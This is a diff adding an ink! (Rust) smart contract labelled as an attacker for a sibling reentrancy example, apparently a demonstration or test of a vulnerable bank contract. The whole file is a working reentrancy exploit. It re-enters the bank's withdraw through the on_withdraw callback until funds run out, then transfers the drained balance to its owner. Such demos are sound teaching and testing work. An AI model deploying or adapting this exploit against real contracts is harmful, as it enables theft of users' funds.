@@ -0,0 +1,81 @@
+/*
+ * ATTACKER CONTRACT FOR ../reentrancy.rs - DO NOT DEPLOY
+ *
+ * Deposits into the bank, withdraws, and withdraws again from inside the
+ * bank's `on_withdraw` notification until a nested call fails (the bank
+ * runs dry or the call stack depth limit is hit).
+ */
+
+#![cfg_attr(not(feature = "std"), no_std, no_main)]
+
+#[ink::contract]
+pub mod reentrancy_attacker {
+    use ink::env::call::{build_call, ExecutionInput, Selector};
+    use ink::env::{CallFlags, DefaultEnvironment};
+
+    #[ink(storage)]
+    pub struct ReentrancyAttacker {
+        bank: AccountId,
+        owner: AccountId,
+    }
+
+    impl ReentrancyAttacker {
+        #[ink(constructor)]
+        pub fn new(bank: AccountId) -> Self {
+            Self {
+                bank,
+                owner: Self::env().caller(),
+            }
+        }
+
+        /// Deposits the transferred value, then starts the withdraw loop
+        #[ink(message, payable)]
+        pub fn attack(&mut self) {
+            build_call::<DefaultEnvironment>()
+                .call(self.bank)
+                .transferred_value(self.env().transferred_value())
+                .exec_input(ExecutionInput::new(Selector::new(ink::selector_bytes!(
+                    "deposit"
+                ))))
+                .returns::<()>()
+                .invoke();
+            assert!(self.withdraw(), "initial withdraw failed");
+        }
+
+        /// The bank's payout notification: withdraw again while it pays
+        #[ink(message, payable)]
+        pub fn on_withdraw(&mut self) {
+            // A failed nested withdraw ends the loop; the payouts already
+            // received by the frames above are kept
+            let _ = self.withdraw();
+        }
+
+        /// Sends everything this contract holds to its deployer
+        #[ink(message)]
+        pub fn collect(&mut self) {
+            assert_eq!(self.env().caller(), self.owner, "not the owner");
+            let loot = self
+                .env()
+                .balance()
+                .saturating_sub(self.env().minimum_balance());
+            self.env()
+                .transfer(self.owner, loot)
+                .expect("transfer failed");
+        }
+
+        /// Calls the bank's withdraw with ALLOW_REENTRY, so the bank can call
+        /// on_withdraw on this contract while it is still on the call stack
+        fn withdraw(&self) -> bool {
+            // The bank's error enum encodes as a single variant index
+            build_call::<DefaultEnvironment>()
+                .call(self.bank)
+                .call_flags(CallFlags::ALLOW_REENTRY)
+                .exec_input(ExecutionInput::new(Selector::new(ink::selector_bytes!(
+                    "withdraw"
+                ))))
+                .returns::<Result<(), u8>>()
+                .try_invoke()
+                .is_ok_and(|result| matches!(result, Ok(Ok(()))))
+        }
+    }
+}